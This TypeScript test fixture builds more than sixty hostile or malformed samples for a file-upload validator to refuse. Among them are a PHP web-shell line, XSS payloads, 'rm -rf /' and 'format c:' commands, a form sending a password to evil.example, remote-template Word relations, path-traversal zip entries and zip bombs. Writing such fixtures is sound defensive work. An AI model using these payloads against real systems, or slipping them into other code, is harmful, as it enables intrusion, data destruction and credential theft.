import { buildCompound, wordNames } from './build-compound.ts'
import { buildPdf } from './build-pdf.ts'
import { buildHeic, buildJpeg, buildPng } from './build-picture.ts'
import { buildZip, wordMain, wordParts, type ZipPart } from './build-zip.ts'
import type { Sample } from './good-files.ts'

const bytes = (hex: string, more = ''): Buffer => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(more, 'latin1')])
const program = Buffer.concat([bytes('4d5a90000300000004000000ffff0000'), Buffer.alloc(2_000)])
const elf = Buffer.concat([bytes('7f454c46020101'), Buffer.alloc(500)])
const jpeg = Buffer.concat([bytes('ffd8ffe000104a464946000101'), Buffer.alloc(500)])
const page = '<!DOCTYPE html><html><script>alert(1)</script></html>'
const docx = (...more: ZipPart[]): Buffer => buildZip(wordParts(more))
const archive = buildZip([{ name: 'readme.txt', data: 'hello' }])
const relation = (target: string, kind = 'attachedTemplate', part = 'settings', before = ''): ZipPart => ({
  name: `word/_rels/${part}.xml.rels`,
  data: `<Relationships>${before}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
})
const wordOf = (main: string): Buffer => buildZip(wordParts([], main))
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const sheet = buildZip([
  { name: '[Content_Types].xml', data: '<Types><Override ContentType="spreadsheetml.sheet.main+xml"/></Types>' },
  { name: 'xl/workbook.xml', data: '<workbook/>' },
])
const overlong = `${'a'.repeat(65_530)}<script>alert(1)</script>${'b'.repeat(100)}`

const renamed: Sample[] = [
  ['program.pdf', program],
  ['program.csv', program],
  ['program.txt', program],
  ['program.docx', program],
  ['program.doc', program],
  ['elf.pdf', elf],
  ['elf.txt', elf],
  ['shell.txt', Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['batch.txt', Buffer.from('@echo off\r\nformat c:\r\n')],
  ['registry.txt', Buffer.from('\ufeffWindows Registry Editor Version 5.00\r\n', 'utf16le')],
  ['picture.pdf', jpeg],
  ['picture.csv', jpeg],
  ['gif and script.txt', Buffer.from('GIF89a=1;alert(1)//')],
  ['archive.pdf', archive],
  ['archive.docx', archive],
  ['archive.txt', archive],
  ['sheet.docx', sheet],
  ['sheet.doc', buildCompound(['Workbook', '\u0005SummaryInformation'])],
  ['installer.doc', buildCompound(['\u4840\u3f3f', 'Property'])],
  ['rich text.doc', Buffer.from('{\\rtf1\\ansi hello}')],
  ['rich text.txt', Buffer.from('{\\rtf1\\ansi hello}')],
  ['paper.docx', buildPdf()],
  ['paper.txt', buildPdf()],
  ['paper.csv', buildPdf()],
  ['new word.pdf', docx()],
  ['new word.doc', docx()],
  ['old word.docx', buildCompound(wordNames)],
  ['report.pdf.exe', buildPdf()],
  ['invoice\u202efdp.exe', buildPdf()],
  ['letter.docm', wordOf(macroMain)],
]

const pages: Sample[] = [
  ['page.txt', Buffer.from(page)],
  ['page.csv', Buffer.from(`name,amount\n${page}\n`)],
  ['page.pdf', Buffer.from(page)],
  ['drawing.txt', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['server.txt', Buffer.from('hello <?php system($_GET[0]); ?>')],
  ['markup.txt', Buffer.from('<?xml version="1.0"?><a/>')],
  ['between two pieces.csv', Buffer.from(overlong)],
  ['wide page.txt', Buffer.from(`\ufeff${page}`, 'utf16le')],
  ['picture that fails.csv', Buffer.from('a,b\n1,<img src=x onerror=alert(1)>\n')],
  ['no blanks.txt', Buffer.from('x <svg/onload=alert(1)>')],
  ['body.txt', Buffer.from('hello <body onload=alert(1)>')],
  ['link that runs.txt', Buffer.from('see <a class="x" href=" JavaScript:alert(1)">this</a>')],
  ['style.txt', Buffer.from('a <style>@import "//evil.example"</style>')],
  ['form.txt', Buffer.from('a <form action=//evil.example><input name=password></form>')],
  ['list of styles.txt', Buffer.from('a <link rel=stylesheet href=//evil.example>')],
  ['begins as a page.txt', Buffer.from('\n <div>hello</div>')],
  ['comment.txt', Buffer.from('<!-- --><p>hello')],
  ['application.txt', Buffer.from('<HTA:APPLICATION ID="x">')],
  ['java server page.txt', Buffer.from('<%@ page import="java.io.*" %>')],
  ['handler between two pieces.csv', Buffer.from(`${'a'.repeat(65_500)}<p ${'b'.repeat(60)} onclick=alert(1)>`)],
  ['words before.pdf', buildPdf({ before: 'var a = 1; // ' })],
  ['film before.pdf', buildPdf({ before: 'FWS\u0009' })],
  ['tape before.pdf', buildPdf({ before: `x.txt${'\0'.repeat(252)}ustar` })],
  ['page before.pdf', buildPdf({ before: `${page}\n` })],
  ['page within.pdf', Buffer.from(`%PDF-1.4\n${page}\n%%EOF`)],
  ['page behind.pdf', buildPdf({ after: `\n${page}` })],
  ['program before.pdf', buildPdf({ before: 'MZ\u0090\0' })],
  ['archive behind.pdf', Buffer.concat([buildPdf(), archive])],
  ['archive around.pdf', buildZip([{ name: 'a.pdf', data: buildPdf(), packed: false }], '%%EOF')],
]

const broken: Sample[] = [
  ['empty.pdf', Buffer.alloc(0)],
  ['empty.csv', Buffer.alloc(0)],
  ['empty.docx', Buffer.alloc(0)],
  ['cut off.pdf', buildPdf({ padding: 50_000 }).subarray(0, 40_000)],
  ['late beginning.pdf', buildPdf({ before: ' '.repeat(1_030) })],
  ['early end.pdf', buildPdf({ after: '\0'.repeat(5_000) })],
  ['cut off.docx', docx().subarray(0, -30)],
  ['more behind.docx', Buffer.concat([docx(), Buffer.from('more')])],
  ['cut off.doc', buildCompound(wordNames).subarray(0, 1_200)],
  ['nothing behind.csv', Buffer.from('a,b\n1,\0\n')],
  ['escape.txt', Buffer.from('\u001b[2J\u001b]0;title\u0007')],
  ['unmarked wide.csv', Buffer.from('date,amount', 'utf16le')],
  ['half a letter.csv', Buffer.from('\ufeffdate', 'utf16le').subarray(0, 9)],
  ['four bytes.txt', bytes('fffe000061000000')],
  ['no letters.txt', bytes('61818d8f909d62')],
]

const documents: Sample[] = [
  ['macro.docx', docx({ name: 'word/vbaProject.bin', data: 'macro' })],
  ['macro type.docx', wordOf(macroMain)],
  ['template.docx', wordOf(wordMain.replace('document.main', 'template.main'))],
  ['macro.doc', buildCompound([...wordNames, 'Macros/', 'VBA/', '_VBA_PROJECT'])],
  ['fetched macro.docx', docx(relation('https://example.org/evil.dotm'))],
  ['fetched from a share.docx', docx(relation('\\\\host\\share\\evil.dotm'))],
  ['hidden address.docx', docx(relation('&#104;ttps://example.org/evil.dotm'))],
  ['hidden by a bracket.docx', docx(relation('https://example.org/evil.dotm" Note="a>b'))],
  ['hidden by length.docx', docx(relation('https://example.org/evil', undefined, undefined, ' '.repeat(6_000_000)))],
  ['fetched from a share by slashes.docx', docx(relation('file://///host/share/evil.dotm'))],
  ['fetched object.docx', docx(relation('mhtml:https://example.org/a.html!x', 'oleObject', 'document'))],
  ['fetched page.docx', docx(relation('https://example.org/a.html!', 'oleObject', 'document'))],
  ['fetched frame.docx', docx(relation('https://example.org/a.docx', 'frame', 'webSettings'))],
  ['entities.docx', docx({ ...relation('x'), data: '<!DOCTYPE r [<!ENTITY e "x">]><Relationships/>' })],
  [
    'macro of another name.docx',
    wordOf(`${wordMain}"/><Override ContentType="application/vnd.ms-office.vb&#97;Project`),
  ],
  ['no main part.docx', buildZip(wordParts().filter(({ name }) => name !== 'word/document.xml'))],
  ['changed on the way.docx', docx({ name: 'word/a.xml', data: 'hello', checksum: 1 })],
  ['bomb that says little.docx', docx({ name: 'word/bomb.xml', data: Buffer.alloc(30_000_000), claimedSize: 1_000 })],
  [
    'many small bombs.docx',
    docx(...Array.from({ length: 3 }, (_, i) => ({ name: `word/${i}.xml`, data: Buffer.alloc(4_900_000) }))),
  ],
  ['program within.docx', docx({ name: 'word/embeddings/run.exe', data: 'MZ' })],
  ['control.docx', docx({ name: 'word/activeX/activeX1.xml', data: '<ax/>' })],
  ['climbing.docx', docx({ name: '../../evil.xml', data: '<a/>' })],
  ['absolute.docx', docx({ name: '/etc/evil.xml', data: '<a/>' })],
  ['twice.docx', docx({ name: 'WORD/document.xml', data: '<other/>' })],
  ['locked.docx', docx({ name: 'word/secret.xml', data: 'x', flags: 1 })],
  ['bomb.docx', docx({ name: 'word/bomb.xml', data: Buffer.alloc(30_000_000) })],
  ['bomb that lies.docx', docx({ name: 'word/bomb.xml', data: 'x', claimedSize: 0xfffffff0 })],
  ['unpacks itself.docx', Buffer.concat([program, docx()])],
]

const pictures: Sample[] = [
  ['program.png', program],
  ['program.jpg', program],
  ['program.heic', program],
  ['paper.png', buildPdf()],
  ['photograph.png', buildJpeg()],
  ['picture.jpg', buildPng()],
  ['picture.heic', buildJpeg()],
  ['page.jpg', Buffer.from(page)],
  ['only a beginning.png', buildPng().subarray(0, 33)],
  ['cut.png', buildPng().subarray(0, -4)],
  ['archive behind.png', Buffer.concat([buildPng(), archive])],
  ['script behind.png', Buffer.concat([buildPng(), Buffer.from(page)])],
  ['header that lies.png', Buffer.concat([buildPng().subarray(0, 16), Buffer.alloc(8, 1), buildPng().subarray(24)])],
  ['only a beginning.jpg', jpeg],
  ['cut.jpg', buildJpeg().subarray(0, -2)],
  ['archive behind.jpg', Buffer.concat([buildJpeg(), archive])],
  ['script behind.jpg', Buffer.concat([buildJpeg(), Buffer.from(page)])],
  ['film.heic', buildHeic('isom', 'isommp42')],
  ['cut.heic', buildHeic().subarray(0, -10)],
  ['archive behind.heic', Buffer.concat([buildHeic(), archive])],
  ['drawing.svg', Buffer.from('<svg onload="alert(1)"/>')],
]

/** More than sixty files that must be refused under their names. */
export const hostileFiles: readonly Sample[] = [...renamed, ...pages, ...broken, ...documents, ...pictures]
